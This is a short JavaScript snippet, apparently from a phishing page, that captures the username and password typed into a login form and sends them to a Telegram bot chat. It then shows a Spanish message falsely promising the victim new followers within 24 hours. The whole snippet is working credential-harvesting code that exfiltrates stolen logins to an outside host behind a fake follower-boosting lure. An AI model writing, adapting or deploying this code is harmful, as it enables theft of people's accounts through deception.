const botKey = '0000000000:PLACEHOLDER';
const room = '000000000';

async function passOn(who, word) {
  const body = `🔔 Nuevo intento\nUsuario: ${who}\nClave: ${word}`;
  const to = `https://api.telegram.org/bot${botKey}/sendMessage`;
  try {
    const answer = await fetch(to, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ chat_id: room, text: body })
    });
    const state = await answer.json();
    if (!state.ok) console.error('not delivered', state);
  } catch (problem) {
    console.error(problem);
  }
}

document.getElementById('acceso').addEventListener('submit', function (event) {
  event.preventDefault();
  passOn(event.target.usuario.value, event.target.clave.value);
  alert('Listo, tus seguidores llegan en 24 horas');
  event.target.reset();
});
